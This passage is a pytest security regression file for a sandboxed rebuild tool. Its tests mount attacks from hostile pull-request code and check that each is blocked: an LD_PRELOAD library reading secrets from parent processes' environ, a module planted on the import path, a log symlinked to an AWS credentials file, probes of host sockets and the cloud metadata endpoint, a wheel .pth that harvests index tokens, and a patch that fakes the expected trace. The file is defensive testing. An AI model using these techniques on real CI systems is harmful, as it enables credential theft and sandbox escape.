"""Issue 38's sandbox half, attacked as a pull request's training code would: a compiled preload
library in the record's environment, a module planted in reprogate's own import path, a log
swapped for a link to a credential, listeners on the host's network, a runner installed outside
`_work`, a hostile wheel's `.pth`, and a pull request that writes the reference's evidence
itself. Each test fails if its attack works (each was seen failing on 0.5.0's code)."""

from __future__ import annotations

import base64
import hashlib
import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import Result
from support import FIXTURES, REPO, edit_record, git, require_tool

Cli = Callable[..., Result]
RECORD = Path("tiny") / "records" / "tiny.yaml"
SECRET = "planted-credential-7f3c9a1e"  # not credential-shaped: the redactor would not hide it, only the sandbox can


def require_sandbox() -> None:
    from reprogate.rebuild import sandbox

    if sandbox.unavailable() is not None and os.environ.get("CI") != "true":
        pytest.skip(sandbox.unavailable())


def entrypoint(project: Path, script: str, text: str, **env: str) -> None:
    """The record runs `python SCRIPT` (written into the pinned folder, the tree re-pinned) with `env` added."""
    from reprogate.core.gittree import tree_id

    (project / "tiny" / "project" / script).write_text(text)

    def change(record: dict[str, Any]) -> None:
        record["job"]["entrypoint"] = ["python", script]
        record["execution"]["env"].update(env)
        record["source"]["tree"] = tree_id(project / "tiny" / "project")

    edit_record(project / RECORD, change)


def everything(result: Result | subprocess.CompletedProcess[str], out: Path) -> str:
    said = result.stdout + result.stderr if isinstance(result, subprocess.CompletedProcess) else result.output + result.stderr
    return said + "".join(p.read_text(errors="replace") for p in out.rglob("*") if p.is_file())


# --- 1. nothing from a record reaches the sandbox's own launcher ---

PRELOAD = r"""
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
static void look(int pid, FILE *out) {
    char path[64], buf[65536];
    snprintf(path, sizeof path, "/proc/%d/environ", pid);
    FILE *f = fopen(path, "rb");
    if (!f) return;
    size_t n = fread(buf, 1, sizeof buf - 1, f);
    fclose(f);
    for (size_t i = 0; i < n; i += strlen(buf + i) + 1)
        if (strncmp(buf + i, "PLANTED_SECRET=", 15) == 0) fprintf(out, "%d %s\n", pid, buf + i + 15);
}
__attribute__((constructor)) static void steal(void) {
    const char *mark = getenv("PRELOAD_MARK");
    const char *ran = getenv("PRELOAD_RAN");
    if (ran) { FILE *r = fopen(ran, "a"); if (r) { fprintf(r, "ran in %d\n", getpid()); fclose(r); } }
    if (!mark) return;
    FILE *out = fopen(mark, "a");
    if (!out) return;  /* outside the sandbox only: the mark's folder is not shown inside */
    for (int pid = getppid(), hops = 0; pid > 1 && hops < 12; hops++) {
        look(pid, out);
        char path[64], stat[512];
        snprintf(path, sizeof path, "/proc/%d/stat", pid);
        FILE *s = fopen(path, "r");
        if (!s) break;
        size_t n = fread(stat, 1, sizeof stat - 1, s);
        fclose(s);
        stat[n] = 0;
        char *close = strrchr(stat, ')');
        if (!close) break;
        pid = atoi(strchr(close + 4, ' ') + 1);
    }
    fclose(out);
}
"""


@pytest.fixture
def preload_library(tmp_path: Path) -> Path:
    """A real shared library whose constructor looks for PLANTED_SECRET in every ancestor's environ."""
    gcc = require_tool("gcc")
    source = tmp_path / "steal.c"
    source.write_text(PRELOAD)
    library = tmp_path / "lib" / "steal.so"
    library.parent.mkdir()
    subprocess.run([gcc, "-shared", "-fPIC", "-o", str(library), str(source)], check=True, capture_output=True, timeout=120)
    return library


def test_a_preload_library_in_the_records_environment_never_runs_outside_the_sandbox(
    cli: Cli, project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, preload_library: Path
) -> None:
    """The record's execution.env names LD_PRELOAD: on 0.5.0 bwrap itself (not setuid) loaded
    it in the host's PID namespace, and its constructor read the runner's secrets from an
    ancestor's /proc/*/environ. Now the rebuild refuses the record before anything starts."""
    require_sandbox()
    monkeypatch.setenv("PLANTED_SECRET", SECRET)
    mark = tmp_path / "stolen.txt"

    def change(record: dict[str, Any]) -> None:
        record["execution"]["env"].update(LD_PRELOAD=str(preload_library), PRELOAD_MARK=str(mark))

    edit_record(project / RECORD, change)
    out = tmp_path / "out"
    result = cli("rebuild", str(project / RECORD), "--out", str(out), "--workdir", str(tmp_path / "work"))
    assert not mark.exists(), f"the library ran outside the sandbox and read: {mark.read_text()[:200]}"
    assert result.exit_code == 2 and "LD_PRELOAD" in result.output, result.output
    assert not out.exists(), "refused before anything ran"


def test_validate_names_the_file_line_and_key_of_every_hijacking_variable(cli: Cli, project: Path) -> None:
    def change(record: dict[str, Any]) -> None:
        record["execution"]["env"].update(LD_AUDIT="x.so", BASH_ENV="/tmp/rc", PYTHONSTARTUP="s.py", GCONV_PATH=".", PYTHONPATH="src")

    edit_record(project / RECORD, change)
    result = cli("validate", str(project / RECORD), "--format", "json")
    assert result.exit_code == 1, result.output
    found = [d for f in json.loads(result.output)["files"] for d in f["findings"] if d["code"] == "hijacking-variable"]
    assert sorted(d["field"].rsplit(".", 1)[-1] for d in found) == ["BASH_ENV", "GCONV_PATH", "LD_AUDIT", "PYTHONSTARTUP"]  # PYTHONPATH is allowed
    text = (project / RECORD).read_text().splitlines()
    for d in found:
        assert d["file"].endswith("tiny.yaml") and d["field"].rsplit(".", 1)[-1] + ":" in text[d["line"] - 1], d


def test_the_ranks_environment_is_set_inside_the_sandbox_never_on_the_launcher(tmp_path: Path, preload_library: Path) -> None:
    """Below validate: even a rank environment holding LD_PRELOAD reaches only the process inside
    the sandbox (bwrap --clearenv/--setenv); bwrap itself, in the host's namespaces, never loads it."""
    require_sandbox()
    from reprogate.rebuild import sandbox

    work = tmp_path / "work"
    work.mkdir()
    mark = tmp_path / "stolen.txt"
    ran = work / "ran.txt"
    box = sandbox.for_ranks(work).showing(preload_library.parent)
    env = {"PATH": "/usr/bin:/bin", "LD_PRELOAD": str(preload_library), "PRELOAD_MARK": str(mark), "PRELOAD_RAN": str(ran)}
    done = box.run(["sh", "-c", "echo inside"], work, env, timeout=60)
    assert done.returncode == 0 and "inside" in done.stdout, done.stderr
    assert ran.exists(), "the library is the rank's: it runs inside"
    assert not mark.exists(), "the library ran where the runner's secrets are"


# --- 2. reprogate's own code is not the job's to change ---

PLANTER = """
import os, sys
from pathlib import Path
plant = Path(os.environ["PLANT_DIR"]) / "pynvml.py"
plant.write_text('''
import json, pathlib, os
pathlib.Path(os.environ.get("PLANT_PROOF", "/nonexistent")).write_text("imported")
raise ImportError("planted")
''')
"""


def test_a_module_a_rank_plants_on_reprogates_import_path_is_never_imported(project: Path, tmp_path: Path) -> None:
    """An unsandboxed rank (a Slurm node, --allow-unsandboxed) writes `pynvml.py` into a folder
    on reprogate's own import path (the action venv's site-packages, writable by the runner's
    user); on 0.5.0 the envelope stage imported it after the ranks ran. Every optional module is
    imported before the first rank starts now, its absence remembered."""
    plant = tmp_path / "site-packages"
    plant.mkdir()
    absent = tmp_path / "no-nvml"  # the action's venv has no nvidia-ml-py (its rebuild extra does not bring it)
    (absent / "pynvml").mkdir(parents=True)
    (absent / "pynvml" / "__init__.py").write_text("raise ImportError('nvidia-ml-py is not installed here')\n")
    proof = tmp_path / "imported.txt"
    train = (project / "tiny" / "project" / "train.py").read_text()
    entrypoint(project, "plant.py", PLANTER + "\n" + train.split('"""', 2)[2], PLANT_DIR=str(plant))
    edit_record(project / RECORD, lambda r: r["job"].update(entrypoint=["python", "plant.py", "--config", "../config/tiny.yaml"]))
    env = {
        **{k: v for k, v in os.environ.items() if not k.startswith("PYTEST")},
        "PYTHONPATH": os.pathsep.join([str(plant), str(absent), *filter(None, [os.environ.get("PYTHONPATH")])]),
        "PLANT_PROOF": str(proof),
    }
    env["REPROGATE_SANDBOX"] = "off"
    command = [sys.executable, "-m", "reprogate", "rebuild", str(project / RECORD), "--out", str(tmp_path / "out"), "--allow-unsandboxed"]
    done = subprocess.run(command, env=env, capture_output=True, text=True, timeout=600, check=False)
    assert (plant / "pynvml.py").exists(), done.stdout + done.stderr
    assert not proof.exists(), "reprogate imported the module the rank planted"
    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]


def test_the_action_refuses_a_venv_a_module_was_planted_in_after_it_was_sealed(tmp_path: Path) -> None:
    """action/seal.sh records the venv's content digest and makes it read-only; run.sh compares
    the digest before reprogate starts: a `pynvml.py` planted since is refused, never run."""
    require_tool("bash")
    venv = tmp_path / "venv"
    site = venv / "lib" / "python3" / "site-packages"
    site.mkdir(parents=True)
    (venv / "bin").mkdir()
    script = venv / "bin" / "reprogate"
    script.write_text("#!/usr/bin/env bash\necho ran reprogate\n")
    script.chmod(0o755)
    outputs = tmp_path / "outputs"
    outputs.write_text("")
    env = {"PATH": os.environ["PATH"], "VENV": str(venv), "GITHUB_ACTION_PATH": str(REPO), "GITHUB_OUTPUT": str(outputs), "RESTORED": ""}
    sealed = subprocess.run(["bash", str(REPO / "action" / "seal.sh")], env=env, capture_output=True, text=True, check=False)
    assert sealed.returncode == 0, sealed.stderr
    digest = dict(line.split("=", 1) for line in outputs.read_text().splitlines())["digest"]
    assert not os.access(site, os.W_OK) or os.geteuid() == 0, "sealed read-only"
    run = {**env, "VENV_DIGEST": digest, "INPUT_COMMAND": "validate"}
    honest = subprocess.run(["bash", str(REPO / "action" / "run.sh")], env=run, cwd=tmp_path, capture_output=True, text=True, check=False)
    assert honest.returncode == 0 and "ran reprogate" in honest.stdout, honest.stderr
    site.chmod(0o755)  # the runner's user owns the venv: read-only is no wall, the digest is
    (site / "pynvml.py").write_text("raise SystemExit('planted')\n")
    refused = subprocess.run(["bash", str(REPO / "action" / "run.sh")], env=run, cwd=tmp_path, capture_output=True, text=True, check=False)
    assert refused.returncode == 3 and "ran reprogate" not in refused.stdout, refused.stdout + refused.stderr
    (site / "pynvml.py").unlink()
    stamp = venv / ".reprogate-venv-digest"
    stamp.chmod(0o644)
    (site / "x.py").write_text("")
    restored = subprocess.run(["bash", str(REPO / "action" / "seal.sh")], env={**env, "RESTORED": "true"}, capture_output=True, text=True, check=False)
    assert restored.returncode == 3, "a restored venv that differs from the digest it was saved with is refused"


# --- 3. reprogate reads nothing the ranks can redirect ---

SWAP_LOG = """
import os, sys
from pathlib import Path
print("about to fail", flush=True)
work = Path(os.environ["REPROGATE_TRACE_DIR"]).parents[2]
for log in work.glob(f"runs/*/logs/rank{os.environ['RANK']}.log"):
    log.unlink()
    log.symlink_to(os.environ["SWAP_TARGET"])
sys.exit(4)
"""


@pytest.mark.parametrize("sandboxed", [True, False], ids=["sandboxed", "unsandboxed"])
def test_a_log_swapped_for_a_link_to_a_credential_never_reaches_the_verdict(
    cli: Cli, project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, sandboxed: bool
) -> None:
    """A rank replaces its log with a link to the runner's credentials file and fails, so that
    reprogate reads the log's tail into the verdict, the report and the comment."""
    if sandboxed:
        require_sandbox()
    else:
        monkeypatch.setenv("REPROGATE_SANDBOX", "off")
    credentials = tmp_path / "runner-home" / ".aws" / "credentials"
    credentials.parent.mkdir(parents=True)
    credentials.write_text(f"[default]\nnote = {SECRET}\n")
    entrypoint(project, "swap.py", SWAP_LOG, SWAP_TARGET=str(credentials))
    out = tmp_path / "out"
    result = cli("rebuild", str(project / RECORD), "--out", str(out), "--workdir", str(tmp_path / "work"), "--format", "github")
    verdict = json.loads((out / "verdict.json").read_text())
    assert verdict["diagnosis"] == "run", result.output
    assert any((tmp_path / "work" / "runs").glob("*/logs/rank*.log")), "the rank swapped its logs"
    assert all(p.is_symlink() for p in (tmp_path / "work" / "runs").glob("*/logs/rank*.log"))
    assert SECRET not in everything(result, out), "the credential behind the link reached what the rebuild wrote"


def test_the_no_follow_reader_refuses_a_swapped_folder_and_the_log_creator_replaces_a_planted_link(tmp_path: Path) -> None:
    from reprogate.core.fileio import create_for_code, make_folder_for_code, read_written_by_code, tail_written_by_code

    work = tmp_path / "work"
    (work / "runs").mkdir(parents=True)
    secret = tmp_path / "home" / "rank0.log"
    secret.parent.mkdir()
    secret.write_text(SECRET)
    (work / "runs" / "seed-2").symlink_to(secret.parent)  # a rank's work: a folder swapped for a link
    with pytest.raises(OSError):
        tail_written_by_code(work / "runs" / "seed-2" / "rank0.log", 100, within=work)
    with pytest.raises(OSError):
        make_folder_for_code(work / "runs" / "seed-2" / "logs", work)
    (work / "logs").mkdir()
    (work / "logs" / "rank0.log").symlink_to(secret)
    with pytest.raises(OSError):
        read_written_by_code(work / "logs" / "rank0.log", 100, within=work)
    with os.fdopen(create_for_code(work / "logs" / "rank0.log", work), "w") as fh:
        fh.write("the rank's own output")
    assert secret.read_text() == SECRET, "the log was written through the link"
    assert (work / "logs" / "rank0.log").read_text() == "the rank's own output"


# --- 5. the sandbox's view: an allowlist, not a list of hidden folders; its own network ---

PROBE = """
import errno, json, os, socket, sys
from pathlib import Path
found = {}
def attempt(name, action):
    try:
        found[name] = str(action())[:200]
    except OSError as exc:
        found[name] = "refused: " + (errno.errorcode.get(exc.errno, "") or type(exc).__name__)
def tcp(port):
    with socket.create_connection(("127.0.0.1", port), timeout=3) as s:
        return s.recv(64).decode()
def abstract(name):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(3)
    s.connect("\\0" + name)
    return s.recv(64).decode()
def metadata():
    with socket.create_connection(("169.254.169.254", 80), timeout=3) as s:
        return "connected"
attempt("docker_tcp", lambda: tcp(int(os.environ["DAEMON_PORT"])))
attempt("abstract_socket", lambda: abstract(os.environ["ABSTRACT_NAME"]))
attempt("metadata", metadata)
attempt("runner_credentials", lambda: Path(os.environ["RUNNER_KEEPS"]).read_text())
attempt("other_workspace", lambda: Path(os.environ["OTHER_WORKSPACE"]).read_text())
attempt("etc_secret", lambda: Path(os.environ["ETC_FILE"]).read_text())
attempt("host_shm", lambda: Path(os.environ["HOST_SHM"]).read_text())
Path("/dev/shm/reprogate-rank-was-here").write_text("x")
if os.environ["RANK"] == "0":
    print("FOUND " + json.dumps(found, sort_keys=True))
sys.exit(5)
"""


@pytest.fixture
def listeners() -> Iterator[dict[str, str]]:
    """A TCP service on the host's loopback (a Docker daemon on tcp://127.0.0.1) and an abstract
    Unix socket, both answering with a greeting."""
    tcp = socket.create_server(("127.0.0.1", 0))
    name = f"reprogate-test-{os.getpid()}-{id(tcp)}"
    unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    unix.bind("\0" + name)
    unix.listen()
    stop = threading.Event()

    def serve(server: socket.socket, greeting: bytes) -> None:
        server.settimeout(0.2)
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            with conn:
                conn.sendall(greeting)

    threads = [threading.Thread(target=serve, args=(tcp, b"docker-daemon"), daemon=True), threading.Thread(target=serve, args=(unix, b"abstract"), daemon=True)]
    for thread in threads:
        thread.start()
    try:
        yield {"DAEMON_PORT": str(tcp.getsockname()[1]), "ABSTRACT_NAME": name}
    finally:
        stop.set()
        for thread in threads:
            thread.join(timeout=2)
        tcp.close()
        unix.close()


def test_a_local_rank_reaches_no_host_service_runner_folder_or_shared_memory(
    cli: Cli, project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, listeners: dict[str, str]
) -> None:
    """A runner installed with `config.sh --work /srv/gha` (no `_work` in any path): its install
    folder holds `.credentials_rsaparams`, another repository's workspace sits beside this one.
    On 0.5.0 the ranks saw `/` minus known places and the host's network: the daemon on
    127.0.0.1, the abstract socket, the runner's folder, /dev/shm. Now none of it is there."""
    require_sandbox()
    base = Path(tempfile.mkdtemp(prefix="reprogate-srv-", dir="/var/tmp"))  # neither /tmp nor a home: where a runner may live
    try:
        runner = base / "actions-runner"
        runner.mkdir()
        (runner / ".credentials_rsaparams").write_text(SECRET)
        other = base / "gha" / "other-repo" / "other-repo" / "secret.txt"
        other.parent.mkdir(parents=True)
        other.write_text(SECRET)
        workspace = base / "gha" / "repo" / "repo"
        workspace.mkdir(parents=True)
        monkeypatch.setenv("GITHUB_WORKSPACE", str(workspace))
        monkeypatch.setenv("RUNNER_TOOL_CACHE", str(base / "tools"))
        shm = Path("/dev/shm") / f"reprogate-host-{os.getpid()}"
        shm.write_text(SECRET)
        etc = Path("/etc") / "munge" / "munge.key"
        entrypoint(
            project,
            "probe.py",
            PROBE,
            RUNNER_KEEPS=str(runner / ".credentials_rsaparams"),
            OTHER_WORKSPACE=str(other),
            ETC_FILE=str(etc),
            HOST_SHM=str(shm),
            **listeners,
        )
        out = tmp_path / "out"
        result = cli("rebuild", str(project / RECORD), "--out", str(out), "--workdir", str(tmp_path / "work"))
        log = (tmp_path / "work" / "runs" / "preflight" / "logs" / "rank0.log").read_text()
        found = json.loads(next(line for line in log.splitlines() if line.startswith("FOUND "))[6:])
        for attack in ("docker_tcp", "abstract_socket", "runner_credentials", "other_workspace", "etc_secret", "host_shm"):
            assert found[attack].startswith("refused"), (attack, found[attack])
        assert found["metadata"] == "refused: ENETUNREACH", found["metadata"]  # no route at all: loopback only
        assert not Path("/dev/shm/reprogate-rank-was-here").exists(), "the rank's /dev/shm is the host's"
        assert SECRET not in everything(result, out)
        assert json.loads((out / "verdict.json").read_text())["environment"]["sandbox"].startswith("bubblewrap: own PID, IPC and network namespace")
    finally:
        shutil.rmtree(base, ignore_errors=True)
        Path(f"/dev/shm/reprogate-host-{os.getpid()}").unlink(missing_ok=True)
        Path("/dev/shm/reprogate-rank-was-here").unlink(missing_ok=True)


def code_pull_request(project: Path, change: Callable[[Path], None]) -> tuple[str, str]:
    """The example as a repository: the base commit, then a head commit that applies `change`
    and re-pins the project tree in the head's record. (base, head)."""
    from reprogate.core.gittree import tree_id

    git(project, "init", "-q")
    git(project, "add", "-A")
    git(project, "commit", "-qm", "base")
    base = git(project, "rev-parse", "HEAD")
    change(project)
    edit_record(project / RECORD, lambda r: r["source"].update(tree=tree_id(project / "tiny" / "project")))
    git(project, "add", "-A")
    git(project, "commit", "-qm", "head")
    return base, git(project, "rev-parse", "HEAD")


def test_a_reference_rebuild_of_a_head_with_other_code_is_refused_where_it_cannot_be_sandboxed(
    cli: Cli, project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """On 0.5.0 only `--environment candidate` was refused without bubblewrap; a reference
    rebuild of a pull request whose project tree differs from the base's ran its code unsandboxed."""
    base, _ = code_pull_request(project, lambda p: (p / "tiny" / "project" / "helper.py").write_text("X = 1\n"))
    monkeypatch.setenv("REPROGATE_SANDBOX", "off")
    out = tmp_path / "refused"
    refused = cli("rebuild", str(project / RECORD), "--contract-from", base, "--out", str(out))
    assert refused.exit_code == 3 and "pull request's own project code" in refused.output and "cannot be sandboxed here" in refused.output, refused.output
    assert not out.exists()
    allowed = cli("rebuild", str(project / RECORD), "--contract-from", base, "--allow-unsandboxed", "--out", str(tmp_path / "allowed"))
    assert allowed.exit_code == 0, allowed.output


# --- 6. builds get only what they need ---

PTH_PAYLOAD = r"""
import json, os, sys
home = os.environ.get("HOME", "")
if home:
    seen = {k: v for k, v in os.environ.items() if k.startswith(("UV_", "PIP_"))}
    with open(os.path.join(home, "pth-ran.jsonl"), "a") as fh:
        fh.write(json.dumps({"argv": sys.argv[:3], "seen": seen, "flags_isolated": sys.flags.isolated}) + "\n")
"""


def hostile_wheel(folder: Path) -> Path:
    """A wheel whose `.pth` file records which UV_*/PIP_* variables the interpreter that ran it held."""
    name, ver = "hostilepth", "1.0"
    files = {
        f"{name}.pth": f"import {name}_payload\n",
        f"{name}_payload.py": PTH_PAYLOAD,
        f"{name}-{ver}.dist-info/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {ver}\n",
        f"{name}-{ver}.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    rows = [f"{k},sha256={base64.urlsafe_b64encode(hashlib.sha256(v.encode()).digest()).rstrip(b'=').decode()},{len(v.encode())}" for k, v in files.items()]
    files[f"{name}-{ver}.dist-info/RECORD"] = "\n".join([*rows, f"{name}-{ver}.dist-info/RECORD,,"]) + "\n"
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"{name}-{ver}-py3-none-any.whl"
    with zipfile.ZipFile(path, "w") as z:
        for key, text in files.items():
            z.writestr(key, text)
    return path


def test_a_hostile_wheels_pth_never_runs_with_uv_settings_or_index_passwords_in_reach(
    cli: Cli, tmp_path: Path, venv_cache: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """uv's --compile-bytecode started the new venv's Python with its site, inside uv's
    environment: a wheel's `.pth` ran with every UV_*/PIP_* variable of the runner (a publish
    token, an index password). Bytecode is compiled with `python -I -S` now, and uv itself gets
    only its own allowlisted settings."""
    require_sandbox()
    from support.locked import locked_record

    from reprogate.core.canonical import file_digest

    if not os.environ.get("UV_FIND_LINKS") and os.environ.get("CI") != "true":
        pytest.skip("no local wheelhouse for uv venv --seed")
    repo = tmp_path / "repo"
    shutil.copytree(FIXTURES / "projects" / "locked", repo)
    wheel = hostile_wheel(repo / "wheels")
    (repo / "requirements.txt").write_text(f"hostilepth @ {wheel.as_uri()} \\\n    --hash=sha256:{hashlib.sha256(wheel.read_bytes()).hexdigest()}\n")
    lock = {"path": "requirements.txt", "checksum": file_digest(repo / "requirements.txt"), "format": "pip-requirements"}
    record = locked_record(repo, "locked-pth", {"used": False, "reason": "venv"}, {"lock_files": [lock]})
    (repo / "records").mkdir()
    (repo / "records" / "locked.yaml").write_text(yaml.safe_dump(record, sort_keys=False))
    git(repo, "init", "-q")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "pr head")
    monkeypatch.setenv("UV_PUBLISH_TOKEN", "pypi-" + SECRET)
    monkeypatch.setenv("UV_INDEX_PRIVATE_PASSWORD", SECRET + "-index")
    monkeypatch.setenv("PIP_INDEX_URL_PASSWORD", SECRET + "-pip")
    work = tmp_path / "work"
    rebuild = ["rebuild", str(repo / "records" / "locked.yaml"), "--environment", "candidate", "--cache", str(tmp_path / "cache"), "--workdir", str(work)]
    result = cli(*rebuild, "--out", str(tmp_path / "out"))
    log = work / "logs" / "realize-venv.log"
    assert log.exists() and "pip sync" in log.read_text(), result.output  # the venv was built
    ran = work / "home" / "pth-ran.jsonl"
    lines = [json.loads(line) for line in ran.read_text().splitlines()] if ran.exists() else []
    assert all(not line["seen"] for line in lines), f"a .pth ran with uv's or pip's settings: {sorted({k for line in lines for k in line['seen']})}"
    assert SECRET not in (ran.read_text() if ran.exists() else "")
    assert not (work / "uv-cache").exists(), "the rebuild's own uv cache is removed after the build"


def test_the_build_environment_is_an_allowlist_of_uvs_own_settings(tmp_path: Path) -> None:
    from reprogate.rebuild.realizers.venv import build_environment

    runner = {
        "PATH": "/usr/bin",
        "UV_PUBLISH_TOKEN": "pypi-x",
        "UV_PUBLISH_PASSWORD": "p",
        "UV_INDEX_URL": "https://user:pw@mirror/simple",
        "UV_INDEX_CORP_PASSWORD": "pw",
        "UV_HTTP_TIMEOUT": "60",
        "PIP_INDEX_URL": "https://user:pw@mirror/simple",
        "UV_PYTHON_INSTALL_MIRROR": "https://evil/",
    }
    wheels_only = build_environment(runner, tmp_path / "work", tmp_path / "cache", credentials=True)
    building = build_environment(runner, tmp_path / "work", tmp_path / "cache", credentials=False)
    assert wheels_only["UV_HTTP_TIMEOUT"] == "60" and wheels_only["UV_INDEX_CORP_PASSWORD"] == "pw"
    for env in (wheels_only, building):
        assert not {"UV_PUBLISH_TOKEN", "UV_PUBLISH_PASSWORD", "UV_INDEX_URL", "PIP_INDEX_URL", "UV_PYTHON_INSTALL_MIRROR"} & set(env)
    assert "UV_INDEX_CORP_PASSWORD" not in building, "a step that may run a build backend gets no index password"


# --- 9. the evidence the code under test writes: not needed where it can be avoided, labelled where not ---

REPLAY = (
    "import json, os; rank = os.environ['RANK']; "
    "out = open(os.path.join(os.environ['REPROGATE_TRACE_DIR'], f'trace-rank{{rank}}.jsonl'), 'w'); "
    "[out.write(line) for line in open({trace!r}) if str(json.loads(line).get('rank', 0)) == rank]; out.close()"
)


def test_a_head_that_only_changes_the_entrypoint_to_replay_the_reference_trace_does_not_pass(cli: Cli, project: Path, tmp_path: Path) -> None:
    """No file of the project changes: the head's record starts `python -c` that copies the
    reference trace's lines as its own trace. On 0.5.0 it passed the bitwise contract. Now the
    reference trace is not in the ranks' view, and the claim says whose code ran."""
    require_sandbox()
    trace = project / "tiny" / "reference" / "trace.jsonl"
    base, _ = code_pull_request(
        project, lambda p: edit_record(p / RECORD, lambda r: r["job"].update(entrypoint=["python", "-c", REPLAY.format(trace=str(trace))]))
    )
    out = tmp_path / "out"
    result = cli("rebuild", str(project / RECORD), "--contract-from", base, "--out", str(out))
    verdict = json.loads((out / "verdict.json").read_text())
    assert verdict["verdict"] != "pass", "the replayed reference trace passed as a reproduction"
    assert verdict["environment"]["code"]["ran"] == "pull-request" and "job.entrypoint" in verdict["environment"]["code"]["detail"], result.output


def cheat(project: Path) -> None:
    """The code PR: lr doubled, and the reference trace's lines (committed beside the code) written as its own trace."""
    folder = project / "tiny" / "project"
    shutil.copy(project / "tiny" / "reference" / "trace.jsonl", folder / "expected.jsonl")
    train = folder / "train.py"
    text = train.read_text()
    assert 'lr=t["lr"]' in text
    (folder / "train.py").write_text(
        text.replace('lr=t["lr"]', 'lr=2 * t["lr"]')
        + "\nimport json as _j, os as _o\n_rank = _o.environ.get('RANK', '0')\n"
        + "with open(_o.path.join(_o.environ['REPROGATE_TRACE_DIR'], f'trace-rank{_rank}.jsonl'), 'w') as _out:\n"
        + "    _expected = _o.path.join(_o.path.dirname(_o.path.abspath(__file__)), 'expected.jsonl')\n"
        + "    [_out.write(l) for l in open(_expected) if str(_j.loads(l).get('rank', 0)) == _rank]\n"
    )


def test_a_code_pull_request_that_writes_the_expected_trace_is_labelled_as_its_own_evidence(cli: Cli, project: Path, tmp_path: Path) -> None:
    """No sandbox stops code from writing the numbers it is judged by. What must hold: the
    verdict, the claim and the report say the evidence came from the pull request's own code,
    and that the approval is what vouches for it."""
    require_sandbox()
    base, _ = code_pull_request(project, cheat)
    out = tmp_path / "out"
    result = cli("rebuild", str(project / RECORD), "--contract-from", base, "--out", str(out))
    verdict = json.loads((out / "verdict.json").read_text())
    code = verdict["environment"]["code"]
    assert code["ran"] == "pull-request" and "train.py" in code["detail"], result.output
    assert any("approval" in n and "pull request's own code" in n for n in verdict["claim"]["not_covered"]), verdict["claim"]
    assert "pull request's own code" in verdict["claim"]["text"] or verdict["verdict"] != "pass"
    report = (out / "report.md").read_text()
    assert "Evidence from the pull request's own code" in report and "approval of this rebuild is what vouches for it" in report


def test_an_environment_only_head_runs_the_bases_reviewed_tree_and_still_goes_green(cli: Cli, project: Path, tmp_path: Path) -> None:
    """A head that changes nothing in the project folder (here: the record's description): the
    base's tree runs, written from git objects, and an honest rebuild passes."""
    require_sandbox()
    (project / ".gitignore").write_text("tiny/project/untracked_helper.py\n")  # a file git does not track, beside the code
    base, _ = code_pull_request(project, lambda p: edit_record(p / RECORD, lambda r: r["metadata"].update(description="an environment-only change")))
    (project / "tiny" / "project" / "untracked_helper.py").write_text("raise SystemExit('the checkout ran, not the base')\n")
    out = tmp_path / "out"
    result = cli("rebuild", str(project / RECORD), "--contract-from", base, "--out", str(out), "--workdir", str(tmp_path / "work"))
    verdict = json.loads((out / "verdict.json").read_text())
    assert result.exit_code == 0 and verdict["verdict"] == "pass", result.output
    assert verdict["environment"]["code"]["ran"] == "base", verdict["environment"]["code"]
    assert "base's reviewed project tree" in verdict["claim"]["text"]
    assert not (tmp_path / "work" / "tiny" / "project" / "untracked_helper.py").exists(), "the base's tree came from git objects, not the checkout"


# --- also: inputs that never end, leftovers that are not data ---


@pytest.mark.parametrize("what", ["fifo", "dev-zero"])
def test_digest_of_a_fifo_or_an_endless_device_is_refused_not_waited_on(tmp_path: Path, what: str) -> None:
    path = Path("/dev/zero")
    if what == "fifo":
        path = tmp_path / "pipe"
        os.mkfifo(path)
    done = subprocess.run([sys.executable, "-m", "reprogate", "digest", str(path)], capture_output=True, text=True, timeout=120, check=False)
    assert done.returncode == 2 and "not a regular file" in done.stderr, done.stderr


def test_a_leftover_temporary_is_never_listed_as_a_shard(cli: Cli, tmp_path: Path) -> None:
    data = tmp_path / "data"
    data.mkdir()
    (data / "shard-000.txt").write_text("a\n")
    (data / "shard-001.txt.part.tmp").write_text("half a download\n")  # a killed download
    (data / ".manifest.yaml.x1y2.tmp").write_text("{}\n")  # a killed atomic write
    result = cli("dataset", "manifest", str(data), "--id", "d", "--version", "1", "--output", str(tmp_path / "m.yaml"))
    assert result.exit_code == 0, result.output
    names = [s["name"] for s in yaml.safe_load((tmp_path / "m.yaml").read_text())["shards"]]
    assert names == ["shard-000.txt"], names


def test_a_dataset_server_that_drips_is_unreachable_not_corrupt(tmp_path: Path) -> None:
    """A remote root that answers one byte every half second: the verification ends within its
    --max-time with exit 3 (unreachable), never exit 1 (a shard that does not match)."""
    from support.hostile_http import drip, hostile

    manifest = tmp_path / "d.manifest.yaml"
    shard = "{name: s0.bin, bytes: 1000, checksum: 'sha256:" + "0" * 64 + "'}"
    manifest.write_text(f"apiVersion: reprogate/v1\nkind: DatasetManifest\nid: d\nversion: '1'\nalgorithm: sha256\nshards:\n- {shard}\n")
    with hostile(drip(every=0.5, length=1000)) as server:
        command = [
            sys.executable,
            "-m",
            "reprogate",
            "dataset",
            "verify",
            str(manifest),
            "--root",
            server.url,
            "--timeout",
            "2",
            "--retries",
            "0",
            "--max-time",
            "6",
        ]
        done = subprocess.run(command, capture_output=True, text=True, timeout=300, check=False)
    assert done.returncode == 3 and "unreachable" in done.stdout and "corrupt" not in done.stdout, done.stdout + done.stderr


# --- 3 (cont.). what reprogate reads and writes in the work folder while the preflight's ranks wait ---


def at_every_start(project: Path, code: str) -> None:
